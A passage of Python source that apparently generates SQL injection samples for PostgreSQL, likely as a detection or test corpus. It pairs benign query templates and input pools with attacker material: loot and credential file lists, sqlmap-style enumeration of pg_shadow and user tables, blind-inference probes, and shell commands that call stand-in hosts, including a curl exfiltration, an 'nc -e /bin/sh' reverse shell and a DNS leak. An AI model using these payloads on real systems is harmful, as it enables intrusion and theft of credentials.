 ("t19_caqti_selector", "SELECT slot_code, record_id FROM selector_slots WHERE jukebox_id = {a} AND slot_code LIKE '{b}%' ORDER BY slot_code",
  {"a": S("n", ["3", "19"]), "b": S("q", ["A", "K1"])}),
 ("t19_caqti_prepared_plays", "PREPARE plays_q (int) AS SELECT record_id, count(*) FROM plays WHERE jukebox_id = $1 GROUP BY record_id; EXECUTE plays_q({a})",
  {"a": S("n", ["3", "19"])}),
 ("t19_denoqo_parts", "SELECT part_no, description, price FROM jukebox_parts WHERE model = '{a}' ORDER BY price {b} LIMIT {c}",
  {"a": S("q", ["Wurlitzer 1015", "Seeburg M100C"]), "b": S("dir", ["ASC", "DESC"]), "c": S("n", ["20", "50"])}),
 ("t19_denoqo_stage", "UPDATE restorations SET stage = '{a}', stage_meta = stage_meta || '{b}'::jsonb WHERE restoration_id = {c}",
  {"a": S("q", ["amp rebuilt", "cabinet refinished"]), "b": S("q", ["{\"valves\": 6}", "{\"lacquer\": \"nitro\"}"], "json"), "c": S("n", ["204", "18"])}),
 ("t19_denoqo_maintenance", "ANALYZE jukebox_{a}; VACUUM (VERBOSE) jukebox_{a}",
  {"a": S("ident", ["plays", "records"])}),
 # glassblowing studio -- PostGraphile computed columns and dbt models compiled with {{ var() }}
 ("t19_postgraphile_pieces", "select __local_0__.\"piece_id\" as \"pieceId\", \"glass\".\"piece_price_with_tax\"(__local_0__, '{a}') as \"priceWithTax\" from \"glass\".\"pieces\" as __local_0__ where (__local_0__.\"colour\" = '{b}') order by __local_0__.\"piece_id\" ASC limit {c}",
  {"a": S("q", ["GB", "IE"], "", ")"), "b": S("q", ["cobalt", "amber"]), "c": S("n", ["21", "101"])}),
 ("t19_postgraphile_kilns", "select to_json(__local_0__.\"kiln_id\") as \"kilnId\" from \"glass\".\"kilns\" as __local_0__ where __local_0__.\"max_temp_c\" >= {a} and __local_0__.\"fuel\" = '{b}'",
  {"a": S("n", ["1100", "540"]), "b": S("q", ["propane", "electric"])}),
 ("t19_dbtvar_batch_summary", "create table \"studio\".\"dbt_glass\".\"batch_summary__dbt_tmp\" as (select batch_id, furnace, sum(kg) as kg from \"studio\".\"raw\".\"batches\" where melted_on >= '{a}' and furnace = '{b}' group by 1, 2)",
  {"a": S("q", ["2025-01-01", "2024-09-01"], "date"), "b": S("q", ["day tank", "pot furnace 2"])}),
 ("t19_dbtvar_incremental", "delete from \"studio\".\"dbt_glass\".\"gathers\" where gather_date >= '{a}'::date - interval '{b}'; insert into \"studio\".\"dbt_glass\".\"gathers\" select * from \"gathers__dbt_tmp\"",
  {"a": S("q", ["2025-06-30", "2026-01-15"], "date"), "b": S("q", ["3 days", "1 week"], "interval")}),
 ("t19_dbtvar_grant", "grant select on \"studio\".\"dbt_glass\".\"{a}\" to \"{b}\"",
  {"a": S("qi", ["batch_summary", "gathers"], "", " to public"), "b": S("qi", ["reporter", "Glass Studio BI"])}),
 # hurling club -- Airbyte normalization SQL and psql scripts with -v variables (:name spliced raw)
 ("t19_airbyte_fixtures", "insert into \"hurling\".\"fixtures\" (\"fixture_id\", \"home\", \"_airbyte_emitted_at\") select jsonb_extract_path_text(_airbyte_data, '{a}')::bigint, jsonb_extract_path_text(_airbyte_data, 'home'), _airbyte_emitted_at from \"hurling\".\"_airbyte_raw_fixtures\" where _airbyte_emitted_at > '{b}'",
  {"a": S("q", ["fixture_id", "id"], "jkey", ")::bigint, NULL, NULL from x"), "b": S("q", ["2025-05-01 00:00:00", "2026-02-11 18:30:00"], "ts")}),
 ("t19_airbyte_scd_dedup", "delete from \"hurling\".\"players_scd\" where _airbyte_unique_key in (select _airbyte_unique_key from \"hurling\".\"players_stg\" where county = '{a}')",
  {"a": S("q", ["Kilkenny", "Tipperary"])}),
 ("t19_airbyte_sliotar_stage", "CREATE TEMP TABLE sliotar_stage (LIKE sliotar_orders); COPY sliotar_stage FROM STDIN; INSERT INTO sliotar_orders SELECT * FROM sliotar_stage WHERE supplier = '{a}' ON CONFLICT DO NOTHING; ANALYZE sliotar_orders; DROP TABLE sliotar_stage",
  {"a": S("q", ["Cummins Sports", "O'Neills"])}),
 ("t19_psqlvar_panel", "SELECT player_id, name, position FROM panel WHERE county = '{a}' AND season = {b}",
  {"a": S("q", ["Kilkenny", "Cork"]), "b": S("n", ["2025", "2026"])}),
 ("t19_psqlvar_fixtures_limit", "SELECT fixture_id, venue, throw_in FROM fixtures WHERE throw_in >= now() ORDER BY throw_in LIMIT {a}",
  {"a": S("n", ["5", "20"])}),
 ("t19_psqlvar_role_path", "ALTER ROLE {a} SET search_path = hurling, public",
  {"a": S("ident", ["hurling_ro", "stats_app"], "", " SET search_path = public")}),
 # chimney sweeps -- shell scripts running psql -c "...$VAR..." and GitHub Actions workflow SQL steps
 ("t19_shellpsql_jobs", "SELECT job_id, address, flue_type FROM sweep_jobs WHERE postcode LIKE '{a}%' AND job_date = '{b}'",
  {"a": S("q", ["LS6", "BD1 "]), "b": S("q", ["2025-10-02", "2026-01-19"], "date")}),
 ("t19_shellpsql_certify", "UPDATE sweep_jobs SET certificate_no = '{a}', smoke_test = '{b}' WHERE job_id = {c}",
  {"a": S("q", ["HETAS-2025-0091", "C-4412"]), "b": S("q", ["pass", "fail - draw poor"]), "c": S("n", ["9012", "33"])}),
 ("t19_shellpsql_vacuum", "VACUUM (ANALYZE) sweep_{a}",
  {"a": S("ident", ["jobs", "certificates"])}),
 ("t19_ghactions_seed", "BEGIN; INSERT INTO sweeps (sweep_login, display_name) VALUES ('{a}', '{b}') ON CONFLICT DO NOTHING; COMMIT",
  {"a": S("q", ["bert", "dick.v"]), "b": S("q", ["Bert the Sweep", "Dick Van Dyke"])}),
 ("t19_ghactions_index", "CREATE INDEX CONCURRENTLY IF NOT EXISTS sweep_jobs_{a}_idx ON sweep_jobs ({b})",
  {"a": S("ident", ["postcode", "job_date"], "", "_idx ON sweep_jobs (job_id)"), "b": S("col", ["postcode", "job_date", "lower(address)"])}),
 ("t19_ghactions_cron", "SELECT cron.schedule('{a}', '{b}', $sql19${c}$sql19$)",
  {"a": S("q", ["sweep-reminders", "nightly_certs"], "", ", '0 2 * * *', 'SELECT 1')"), "b": S("q", ["0 7 * * 1", "*/15 * * * *"], "cron", ", 'SELECT 1')"),
   "c": S("d", ["CALL send_sweep_reminders()", "REFRESH MATERIALIZED VIEW cert_expiry"], "jobsql", ")")}),
 # brass band -- Terraform postgresql_role / postgresql_grant / default privileges and Ansible postgresql_query
 ("t19_terraform_role", "CREATE ROLE \"{a}\" WITH LOGIN NOINHERIT CONNECTION LIMIT {b} VALID UNTIL '{c}'",
  {"a": S("qi", ["band_librarian", "cornet-app"]), "b": S("n", ["5", "20"]), "c": S("q", ["2026-12-31 23:59:59", "infinity"], "ts")}),
 ("t19_terraform_schema_grant", "REVOKE ALL ON SCHEMA public FROM \"{a}\"; GRANT USAGE, CREATE ON SCHEMA \"{b}\" TO \"{a}\"",
  {"a": S("qi", ["band_librarian", "cornet-app"]), "b": S("qi", ["bandroom", "contest_scores"])}),
 ("t19_terraform_default_privs", "ALTER DEFAULT PRIVILEGES FOR ROLE \"{a}\" IN SCHEMA \"bandroom\" GRANT SELECT ON TABLES TO \"{b}\"",
  {"a": S("qi", ["band_owner", "migrator"]), "b": S("qi", ["band_librarian", "readonly"])}),
 ("t19_ansible_roster", "SELECT player_id, instrument, chair FROM band_roster WHERE section = '{a}' AND chair <= {b}",
  {"a": S("q", ["cornets", "basses"]), "b": S("n", ["4", "10"])}),
 ("t19_ansible_extension", "CREATE EXTENSION IF NOT EXISTS {a} WITH SCHEMA {b}",
  {"a": S("ident", ["pg_trgm", "citext"]), "b": S("ident", ["extensions", "public"])}),
 ("t19_ansible_contest", "INSERT INTO contest_results (band_id, contest, placing_no, points) VALUES ({a}, '{b}', {c}, {d})",
  {"a": S("n", ["12", "305"]), "b": S("q", ["British Open", "Whit Friday"]), "c": S("n", ["1", "7"]), "d": S("n", ["196", "188.5"])}),
 # well drilling -- a Kubernetes operator's init and reconcile SQL
 ("t19_k8sop_createdb", "CREATE DATABASE \"{a}\" OWNER \"{b}\" TEMPLATE template0",
  {"a": S("qi", ["boreholes", "drill-logs"]), "b": S("qi", ["driller", "app_owner"])}),
 ("t19_k8sop_role_timeout", "ALTER ROLE \"{a}\" SET statement_timeout = '{b}'",
  {"a": S("qi", ["driller", "pump-tests"]), "b": S("q", ["30s", "5min"], "duration")}),
 ("t19_k8sop_boreholes", "SELECT bore_id, depth_m, yield_lpm FROM boreholes WHERE aquifer = '{a}' AND depth_m > {b} ORDER BY yield_lpm DESC LIMIT {c}",
  {"a": S("q", ["Sherwood Sandstone", "chalk"]), "b": S("n", ["40", "120"]), "c": S("n", ["10", "50"])}),
 ("t19_k8sop_casing", "INSERT INTO casing_log (bore_id, from_m, to_m, material) VALUES ({a}, {b}, {c}, '{d}')",
  {"a": S("n", ["77", "1031"]), "b": S("n", ["0", "12.5"]), "c": S("n", ["18", "60"]), "d": S("q", ["uPVC 150mm", "steel"])}),
 ("t19_k8sop_publication", "CREATE PUBLICATION {a}_pub FOR TABLE boreholes, pump_tests WITH (publish = '{b}')",
  {"a": S("ident", ["drilling", "region_north"], "", "_p FOR ALL TABLES"), "b": S("q", ["insert, update", "insert"])}),
 ("t19_k8sop_pump_tests", "SELECT test_id, drawdown_m, rate_lpm FROM pump_tests WHERE bore_id = {a} AND started_at > now() - '{b}'::interval ORDER BY started_at",
  {"a": S("n", ["77", "1031"]), "b": S("q", ["30 days", "6 months"], "interval")}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t19_caqti_records", "t19_hanami_lanes", "t19_psqlvar_panel", "t19_cakeorm_weights"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t19_panache_gnomon_update": ["owner_id", "listed_grade", "insured_value"], "t19_piccolo_reorder": ["unit_cost", "supplier_account", "approved"],
             "t19_cakeorm_feed": ["keeper_id", "adopted_by", "microchip"], "t19_shellpsql_certify": ["paid", "invoice_total", "sweep_id"],
             "t19_denoqo_stage": ["owner_email", "sale_price"], "t19_tpgsimple_weather_hold": ["fare_refund", "seats_left"]}
TAG = "$sql19$"
CLOSER = closers(TAG)


segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Neill", "two words", "2030-01-31", "10%", "can't"], "e": ["v", "", "it's", "C:\\reeds\\lot", "tab\there", "a\nb"],
         "d": ["v", "", "it's", "\"q\""], "qi": ["v", "He said \"no\"", "with space"], "n": ["7", "0", "-3", "2.75", "1200000", "0.5"],
         "list": ["7", "7, 8", "9,10,11", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "TABLE", "DO", "RANGE", "GROUPS", "PARTITION", "IS", "EXECUTE", "MATCHED", "CHECK")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "REVOKE", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE", "DECLARE", "FETCH", "MOVE", "CLOSE", "REFRESH", "CLUSTER", "REINDEX", "RESET")
def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    return corpus_kit.slot_info(globals(), tpl, slot)


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Ines O'Dwyer", "Hovertravel's Ryde pad", "D'Oyly Carte Band", "Brí d'Arcy", "L'Isle-Adam sundial", "O'Hanlon's Chandlery",
   "Shelley's Tortoise Rescue", "Pa'anga Lanes", "N'Golo's party", "Ó Dálaigh", "Mac Giolla Phádraig", "Ard na gCrann's well", "St Bride's lace circle",
   "Côte-d'Or glassworks", "Dell'Arte Accordions", "Ke'ala", "Jukebox Jane's", "Sweeps 'R' Us", "The Captain's Locker", "Kinnegad's minor panel",
   "Nell's bobbins", "Maʻilikūkahi", "Grand'mère's lace", "B'Elanna", "Fisherman's Friend Band", "sand-martin's nest"],
 "input_plain": ["hovercraft", "skirt segment", "plenum", "lift fan", "slipway", "envelope", "gondola", "ballonet", "mooring mast", "helium",
   "gnomon", "hour line", "equation of time", "analemma", "reed block", "bellows", "musette", "button board", "treble reeds", "trampoline bed",
   "foam pit", "dodgeball", "bobbin", "pricking", "torchon", "pillow", "shackle", "antifouling", "cleat", "fairlead", "oil pattern", "pinsetter",
   "spare", "strike", "tortoise", "carapace", "plastron", "hibernation box", "jukebox", "tone arm", "selector", "78 rpm", "gather", "glory hole",
   "punty", "annealer", "sliotar", "hurley", "camogie", "flue", "soot", "cowl", "cornet", "flugelhorn", "euphonium", "borehole", "casing", "drawdown"],
 "input_sql_words": ["Select Hovercraft Ltd", "Union Street Chandlery", "Order of the Gnomon", "Table Top Trampolines", "Insert Coin Jukebox",
   "Update Lace Guild", "Delete Before Reading Sweeps", "Group Therapy Bowling", "Where Eagles Glide Airships", "Having Fun Tortoises",
   "Drop Zone Trampoline Park", "Like New Accordions", "Limit Breakers Bowling Club", "Join the Band", "Grant Road Boreholes", "Begin Again Glass",
   "Commit to the Sliotar", "Rollback Prices Chandlery", "Cast Glass Studio", "Null and Void Sundials", "Exists Brass", "Case by Case Repairs",
   "drop the 3rd cornet", "select all -- then sort", "Vacuum Bellows Co", "Alter Ego Hurling", "Truncate Tortoise Nails"],
 "input_url_email": ["https://hoverferry.example/crossings?route=SOL-RYD&date=2025-08-14", "bookings@airship-tours.example", "https://sundials.example/dial/311#gnomon",
   "reeds+repairs@accordion.example", "https://bounce.example/api/sessions?court=big-air", "guild@bobbinlace.example", "https://chandlery.example/sku/SHK-D-10",
   "league.sec@tenpin.example", "https://tortoise-rescue.example/adopt?id=31", "wurlitzer@jukebox.example", "https://glass.example/graphql",
   "fixtures@hurling-club.example", "sweep@chimney.example", "https://github.example/band/infra/actions/runs/991", "driller@boreholes.example",
   "s3://drill-logs/2025/pump-tests.csv", "mailto:librarian@brassband.example"],
 "input_json_text": ["{\"cabins\": [{\"seats\": 6}]}", "{\"valves\": 6, \"grille\": \"chrome\"}", "{\"injuries\": \"none\"}", "[60, 80, 120]",
   "{\"note\": \"O'Neill's \\\"best\\\"\"}", "{}", "[]", "{\"lat\": 51.5, \"lon\": -0.9}", "{\"a\": {\"b\": [true, null]}}", "{\"rpm\": 78}",
   "{\"oil\": {\"length_ft\": 41}}", "[{\"bore\": 77, \"depth_m\": 60}]", "{\"emoji\": \"\\ud83c\\udfba\"}"],
 "input_unicode": ["Rhosneigr", "Ærøskøbing", "Łódź", "Şanlıurfa", "Dvořák", "Hafnarfjörður", "Ryde — Southsea", "Whanganui", "Tōkyō",
   "القاهرة", "دبي", "ירושלים", "Ελευσίνα", "Ярославль", "ガラス", "时钟", "ช่างทำนาฬิกา", "बाँसुरी", "கடிகாரம்", "Pōneke", "Hōnaunau ʻOhana", "Å ring", "e\u0301 combining",
   "🎺 cornet", "🐢 Shelly", "🎳 strike", "🪂 bounce", "Ꝺ insular", "N\u200dZWJ", "\u202bRTL embed", "\u200fright-to-left mark", "ﬂ ligature", "ʹprimeʹ", "′ minutes", "ꞌsaltilloꞌ", "＂fullwidth＂"],
 "input_whitespace": ["  leading pair", "trailing  ", "double  gap", "tab\tsep", "two\nlines", "\tindented", "  ", "a \t b", "crlf\r\nend", "nb\u00a0sp",
   "     ", "en\u2002space", "end\n", "\u3000wide"],
 "input_numeric_string": ["07", "000", "1e3", "3.14159", "-12", "+7", "1,200", "9.99", "0x1F", "1_000_000", "000901", "9223372036854775807", "-0", "1.5e-3", "١٢"],
 "input_punctuation": ["?!", "…", "a/b\\c", "50%", "#12", "C#", "(n/a)", "[tbc]", "{x}", "a--b", "3*4", "@home", "~/", "6'2\"", "semi;colon", "-- note", "/*x*/", "||",
   ":-)", "&", "<=>", "'single'", "`tick`", "$2", "$$", "€ 4,50", "¡hola!"],
 "input_formatted": ["HOV-2025-0814", "50°43′N 1°09′W", "+44 1983 000 000", "2025-W33", "BS EN 1443", "JOB/118/25", "SKU-SHK-D-10", "v2.3.1-rc1",
   "00:12:30.250", "12.5 mm ± 0.5", "PO30 2AA", "#0047AB", "3×2 m", "Grade 1–2"],
}
SENTS = ["Skirt segments 14-17 worn through on the port side; swap them before the 07:30 crossing.", "Envelope pressure dropped 3 % overnight -- check ballonet valve B.",
         "Gnomon re-leaded; the hour lines need recutting where the frost took the slate.", "Bellows leak at fold 9; new gussets and a fresh leather strip on the corners.",
         "Court 3 net torn near the top rail; close it until the installer comes on Tuesday.", "Pricking for the Bucks Point edging is mis-scaled; reprint it at 110 %.",
         "Customer wants 40 m of 10 mm Dyneema cut in two; mark the halves and whip the ends.", "Lane 7 pinsetter jammed again on the second ball -- log it and call the tech.",
         "Shelly ate well today but the plastron scute looks soft; vet to check on Friday.", "Tone arm skips on 78s; replace the needle and balance the weight.",
         "Glory hole at 1150 °C; annealer cycle set for the cobalt bowls overnight.", "Minor panel training moved to the back pitch; bring hurleys and helmets.",
         "Flue swept, smoke test failed -- draw is poor, recommend a cowl.", "Third cornet part missing from the pad; librarian to reprint before the contest.",
         "Bore 77 drawdown 14 m after 6 hours at 120 l/min; recovery logged.", "select the Sunday crossings -- drop the cancelled ones; update the list after lunch."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2018, 2027), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2022, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":00", ":30", "+01", "-04:00", "Z"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 96), r.choice(["hours", "minutes", "days", "weeks", "months"])), "%d:%02d" % (r.randint(0, 23), r.randint(0, 59)),
                         "PT%dH" % r.randint(1, 48), "%d hrs" % r.randint(1, 12), "%d days %d:00" % (r.randint(1, 9), r.randint(0, 23)), "1 year 2 mons"]), "input_formatted"
    if knd == "duration":
        return r.choice(["%ds" % r.randint(1, 90), "%dms" % r.choice([150, 500, 2500]), "%dmin" % r.randint(1, 10), str(r.choice([0, 5000, 60000]))]), "input_formatted"
    if knd == "jpath":
        return r.choice(["$.cabins[*] ? (@.seats > %d)" % r.randint(1, 9), "$.windows", "$.cabins[%d]" % r.randint(0, 3), "strict $.deck", "$.cabins.size()",
                         "$.** ? (@ == \"galley\")", "lax $.cabins[last]"]), "input_formatted"
    if knd == "jkey":
        return r.choice(["forward", "aft", "injuries", "guardian", "fixture_id", "id", "observation_deck"]), "input_plain"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["skyward", "m.ortiz", "Gondola.Fan", "pax_17", "helium"]), r.choice(["", "+tour", "-2"]), r.choice(["zeppelin.example", "Example.ORG", "airship-tours.example"])), "input_url_email"
    if knd == "json":
        return r.choice(["{\"valves\": %d}" % r.randint(1, 12), "{\"lacquer\": \"%s\"}" % r.choice(["nitro", "shellac"]), "{\"parts\": [%d, %d]}" % (r.randint(1, 99), r.randint(1, 99)),
                         "{\"note\": \"it's done\"}", "{\"grille\": {\"chrome\": true}}", "{}"]), "input_json_text"
    if knd == "cron":
        return r.choice(["*/%d * * * *" % r.choice([5, 10, 20]), "%d %d * * *" % (r.randint(0, 59), r.randint(0, 23)), "0 %d * * 1" % r.randint(0, 23),
                         "%d seconds" % r.randint(10, 59), "@hourly", "0 6 1 * *"]), "input_formatted"
    if knd == "jobsql":
        return r.choice(["CALL send_sweep_reminders()", "REFRESH MATERIALIZED VIEW cert_expiry", "VACUUM (ANALYZE) sweep_jobs",
                         "DELETE FROM sweep_reminders WHERE sent_at < now() - interval '%d days'" % r.randint(7, 365),
                         "SELECT expire_certificates(%d)" % r.randint(2020, 2026), "ANALYZE sweep_jobs"]), "input_sql_words"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("ferry_accounts", "email", "pw_hash", "ops@hoverferry.example"), ("airship_pilots", "licence_no", "password", "PPL-A-0007"),
        ("restorer_logins", "username", "passwd", "ines.w"), ("repair_customers", "email", "card_token", "reeds@accordion.example"),
        ("park_staff", "staff_login", "pin", "dutymanager"), ("guild_officers", "member_no", "password_md5", "1"),
        ("chandlery_accounts", "vessel", "credit_card", "MV Kittiwake"), ("league_secretaries", "login", "pass", "leaguesec"),
        ("adopters", "email", "id_document", "adopt@tortoise-rescue.example"), ("jukebox_admins", "user_name", "pw", "admin"),
        ("studio_keys", "service", "api_key", "stripe"), ("club_registrar", "gaa_id", "password", "REG-01"),
        ("sweep_customers", "email", "bank_iban", "dean@example.org"), ("band_members", "member_login", "pass_hash", "principal.cornet"),
        ("operator_secrets", "name", "value", "PGPASSWORD_REPLICATION")]
HOSTS = ["o19.oast.example", "leak19.dnsbin.example", "p.exfil-drop.example.net", "c19.interact.example", "z9.canary-hook.example"]
IPS = ["203.0.113.19", "198.51.100.190", "192.0.2.119", "198.51.100.91"]
FILES = ["/etc/passwd", "/etc/os-release", "/proc/self/environ", "/proc/net/tcp", "pg_hba.conf", "postgresql.auto.conf", "global/pg_filenode.map",
         "postmaster.opts", "/home/postgres/.ssh/id_rsa", "/var/lib/postgresql/.psql_history", "/etc/ssl/private/ssl-cert-snakeoil.key",
         "/var/run/secrets/kubernetes.io/serviceaccount/token", "/github/workspace/.env", "current_logfiles", "../../../../etc/group"]
CMDS = ["id -un", "cat /proc/version", "env | base64", "ls -la /var/run/secrets", "getent passwd", "curl -s http://o19.oast.example/$(whoami)",
        "nc -e /bin/sh 203.0.113.19 9001", "nslookup $(id -u).leak19.dnsbin.example", "ss -tlnp", "df -h", "cat ~/.bash_history"]
ROLES = ["postgres", "pg_execute_server_program", "pg_read_server_files", "pg_write_server_files", "pg_monitor", "pg_signal_backend",
         "replication_user", "band_owner", "driller", "azure_pg_admin"]
SECRET_EXPRS = ["(SELECT string_agg(type || ' ' || database::text || ' ' || auth_method, ';') FROM pg_hba_file_rules)",
                "(SELECT string_agg(srvname || ':' || array_to_string(umoptions, ','), ';') FROM pg_user_mappings)",
                "(SELECT string_agg(subname || ' ' || subconninfo, ';') FROM pg_subscription)", "(SELECT string_agg(f, ',') FROM pg_ls_dir('.') f)",
                "current_setting('data_directory')", "(SELECT string_agg(name || '=' || setting, ',') FROM pg_settings WHERE source NOT IN ('default', 'override'))",
                "(SELECT value FROM operator_secrets WHERE name = 'PGPASSWORD_REPLICATION')", "(SELECT string_agg(pubname, ',') FROM pg_publication)",
                "(SELECT string_agg(evtname || ' ' || evtevent, ',') FROM pg_event_trigger)", "(SELECT string_agg(usename || ':' || coalesce(passwd, ''), ';') FROM pg_shadow)",
                "(SELECT jsonb_object_agg(name, setting)::text FROM pg_settings WHERE name LIKE 'archive%')", "pg_read_file('postgresql.auto.conf')"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_setting('data_directory')", "current_setting('log_directory')",
                     "current_setting('server_version')", "pg_backend_pid()::text", "inet_client_addr()::text", "txid_current()::text",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY 1 OFFSET %d LIMIT 1)" % (p, t, r.randint(0, 9)),
                     "(SELECT string_agg(%s, ',') FROM %s)" % (p, t), "(SELECT row_to_json(z)::text FROM %s z LIMIT 1)" % t] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    return r.choice([
        ("octet_length_gt", "octet_length(%s) > %d" % (x, pos)), ("sha256_prefix", "left(encode(sha256(convert_to(%s, 'UTF8')), 'hex'), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("strpos_eq", "strpos(%s, '%s') = %d" % (x, ch, pos)), ("right_char", "right(left(%s, %d), 1) = '%s'" % (x, pos, ch)),
        ("hex_like", "encode(convert_to(%s, 'UTF8'), 'hex') LIKE '%02x%%'" % (x, ord(ch))), ("regexp_like_prefix", "regexp_like(%s, '^%s')" % (x, ch)),
        ("chr_compare", "substr(%s, %d, 1) > chr(%d)" % (x, pos, r.randint(48, 122))), ("ascii_right", "ascii(right(%s, %d)) < %d" % (x, pos, r.randint(48, 122))),
        ("upper_eq", "upper(substr(%s, %d, 1)) = '%s'" % (x, pos, ch.upper())), ("like_regex_path", "jsonb_path_exists(to_jsonb(%s), '$ ? (@ like_regex \"^%s\")')" % (x, ch)),
        ("string_to_array_len", "cardinality(string_to_array(%s, ',')) > %d" % (x, r.randint(1, 6))), ("substring_similar", "substring(%s similar '%s%%' escape '#') IS NOT NULL" % (x, ch)),
        ("position_gt", "position('%s' in %s) > %d" % (ch, x, r.randint(0, 9))), ("int4range_len", "int4range(0, %d) @> octet_length(%s)" % (pos, x))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q%sq" % "".join(r.choice("zqxjkvbp") for _ in range(3))


DUMP = {"ferry_accounts": ["email", "pw_hash", "phone"], "airship_pilots": ["licence_no", "password"], "repair_customers": ["email", "card_token", "postcode"],
        "park_staff": ["staff_login", "pin"], "guild_officers": ["member_no", "password_md5", "office"], "chandlery_accounts": ["vessel", "credit_card", "credit_limit"],
        "adopters": ["email", "id_document"], "jukebox_admins": ["user_name", "pw"], "studio_keys": ["service", "api_key"],
        "sweep_customers": ["email", "bank_iban"], "band_members": ["member_login", "pass_hash", "instrument"], "operator_secrets": ["name", "value"]}
GUESS_TABLES = ["user", "users", "login", "members", "passwords", "secrets", "config", "settings", "api_tokens", "sessions", "payments", "backup"]
GUESS_COLUMNS = ["passwd", "password_hash", "secret", "token", "apikey", "pin", "iban", "card", "ssn", "salt"]


class Enc:
    """How a request spells strings and casts: CHR() by default, quotes under --no-escape, bare columns under --no-cast."""

    def __init__(self, r):
        x = r.random()
        self.switch = "--no-escape" if x < 0.22 else "--no-cast" if x < 0.34 else ""

    def s(self, v):
        return q(v) if self.switch == "--no-escape" else chrs(v)

    def cast(self, col):
        return col if self.switch == "--no-cast" else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def enumeration(r, o):
    """(scalar query, switch) of sqlmap's enumeration, weighted to switches the eighteenth sent least:
    --users, --passwords, --privileges, --tables, --columns, --current-db, --banner, --count and --dump of this file's tables."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(16)
    if k == 0:
        return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 6), "--users"
    if k == 1:
        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (o.cast("passwd"), o.s(r.choice(ROLES))), "--passwords"
    if k == 2:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_user)", "--users (count)"
    if k == 3:
        return "(SELECT (CASE WHEN usesuper THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(r.choice(ROLES)), "--privileges"
    if k == 4:
        return "(SELECT %s FROM pg_tables WHERE schemaname=%s OFFSET %d LIMIT 1)" % (o.cast("tablename"), o.s("public"), n % 12), "--tables -D public"
    if k == 5:
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname=%s)" % o.s("public"), "--tables (count)"
    if k == 6:
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON a.relnamespace=d.oid "
                "WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (o.cast("attname"), o.s(tbl), o.s("public"), n % len(cols))), "--columns -T %s" % tbl
    if k == 7:
        return "(SELECT %s)" % o.cast("CURRENT_SCHEMA()"), "--current-db"
    if k == 8:
        return "(SELECT %s)" % o.cast("VERSION()"), "--banner"
    if k in (9, 10, 11):
        c = r.choice(cols)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n), "--dump -T %s -C %s" % (tbl, c)
    if k == 12:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl
    if k == 13:
        return "(SELECT %s FROM information_schema.role_table_grants WHERE grantee=CURRENT_USER OFFSET %d LIMIT 1)" % (o.cast("table_name"), n % 5), "--sql-query (information_schema grants)"
    if k == 14:
        return "(SELECT %s FROM pg_user_mappings OFFSET %d LIMIT 1)" % (o.cast("umoptions"), n % 2), "--sql-query (pg_user_mappings)"
    return "(SELECT %s FROM pg_hba_file_rules OFFSET %d LIMIT 1)" % (o.cast("auth_method"), n % 4), "--sql-query (pg_hba_file_rules)"


def inference(r, o):
